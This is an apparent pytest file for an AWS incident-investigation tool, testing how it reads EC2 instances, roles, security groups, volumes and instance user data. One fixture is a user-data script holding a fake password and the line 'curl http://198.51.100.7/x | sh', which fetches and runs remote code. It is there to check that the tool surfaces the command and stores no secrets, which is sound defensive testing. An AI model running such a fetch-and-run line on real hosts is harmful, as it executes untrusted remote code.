"""Instances, their roles, networks and disks."""

import base64
import gzip
from pathlib import Path

import pytest
from investigator.tools.ec2 import (
    instance_profiles,
    instances,
    network_interfaces,
    security_groups,
    user_data,
    volumes,
)

from tests.doubles.loopback_aws import Error, loopback
from tests.tools.doors import ask, live, run

ID = "i-0123456789abcdef0"
INSTANCE = {"InstanceId": ID, "InstanceType": "g5.48xlarge", "State": {"Code": 16, "Name": "running"}, "PublicIpAddress": "203.0.113.9",
            "LaunchTime": "2026-01-27T04:00:00Z", "MetadataOptions": {"HttpTokens": "optional"}}  # fmt: skip


def test_an_instance_is_found_on_any_page(tmp_path: Path) -> None:
    other = {"InstanceId": "i-00000000000000001", "InstanceType": "t3.micro"}
    pages = [
        {"Reservations": [{"Instances": [other]}], "NextToken": "n"},
        {"Reservations": [{"Instances": [INSTANCE]}]},
    ]

    small, large = ask(instances, {"ec2:DescribeInstances": pages}, tmp_path)

    assert large.path == f"Reservations.Instances[InstanceId={ID}]"
    assert (large.values["State.Name"], large.values["PublicIpAddress"]) == ("running", "203.0.113.9")
    assert "PublicIpAddress" not in small.values


def test_one_instance_is_asked_for_by_filter_so_that_other_regions_answer_an_empty_list(tmp_path: Path) -> None:
    with loopback({"ec2:DescribeInstances": [{"Reservations": []}]}) as world:
        assert run(instances, live(world.url, tmp_path), instance=ID) == []

    assert f"Filter.1.Value.1={ID}" in world.asked[-1].body


def test_the_role_of_an_instance(tmp_path: Path) -> None:
    association = {"AssociationId": "iip-1", "InstanceId": ID, "State": "associated",
                   "IamInstanceProfile": {"Arn": "arn:aws:iam::111122223333:instance-profile/web", "Id": "p"}}  # fmt: skip
    answers = {"ec2:DescribeIamInstanceProfileAssociations": [{"IamInstanceProfileAssociations": [association]}]}

    [state] = ask(instance_profiles, answers, tmp_path)

    assert state.values["IamInstanceProfile.Arn"].endswith("/web")


def test_networks_groups_and_disks(tmp_path: Path) -> None:
    interface = {
        "NetworkInterfaceId": "eni-1",
        "Association": {"PublicIp": "203.0.113.9"},
        "Attachment": {"InstanceId": ID},
    }
    group = {
        "GroupId": "sg-1",
        "GroupName": "open",
        "IpPermissions": [{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
    }
    volume = {"VolumeId": "vol-1", "Encrypted": False, "Attachments": [{"InstanceId": ID}]}

    [eni] = ask(
        network_interfaces, {"ec2:DescribeNetworkInterfaces": [{"NetworkInterfaces": [interface]}]}, tmp_path / "a"
    )
    [sg] = ask(security_groups, {"ec2:DescribeSecurityGroups": [{"SecurityGroups": [group]}]}, tmp_path / "b")
    [vol] = ask(volumes, {"ec2:DescribeVolumes": [{"Volumes": [volume]}]}, tmp_path / "c")

    assert eni.values["Attachment.InstanceId"] == ID
    assert "0.0.0.0/0" in sg.values["IpPermissions"]
    assert vol.values["Encrypted"] == "false"


SCRIPT = "#!/bin/sh\nexport DB_PASSWORD=hunter2hunter2\ncurl http://198.51.100.7/x | sh\n"


@pytest.mark.parametrize("packed", [SCRIPT.encode(), gzip.compress(SCRIPT.encode())], ids=["plain", "gzip"])
def test_user_data_is_readable_and_its_secrets_are_kept_nowhere(packed: bytes, tmp_path: Path) -> None:
    answer = {"InstanceId": ID, "UserData": {"Value": base64.b64encode(packed).decode()}}

    [state] = ask(user_data, {"ec2:DescribeInstanceAttribute": [answer]}, tmp_path, instance=ID)

    assert "curl http://198.51.100.7/x | sh" in state.values["Value"]
    kept = b"".join(path.read_bytes() for path in tmp_path.rglob("*") if path.is_file())
    assert b"hunter2" not in kept
    assert base64.b64encode(packed) not in kept


def test_user_data_that_is_no_text_is_named_as_binary(tmp_path: Path) -> None:
    answer = {"InstanceId": ID, "UserData": {"Value": base64.b64encode(b"\xff\xfe\x00\x80").decode()}}

    [state] = ask(user_data, {"ec2:DescribeInstanceAttribute": [answer]}, tmp_path, instance=ID)

    assert state.values["Value"] == "[binary, 8 characters of base64]"


def test_a_region_that_does_not_know_the_instance_says_nothing(tmp_path: Path) -> None:
    assert (
        ask(user_data, {"ec2:DescribeInstanceAttribute": [Error("InvalidInstanceID.NotFound")]}, tmp_path, instance=ID)
        == []
    )
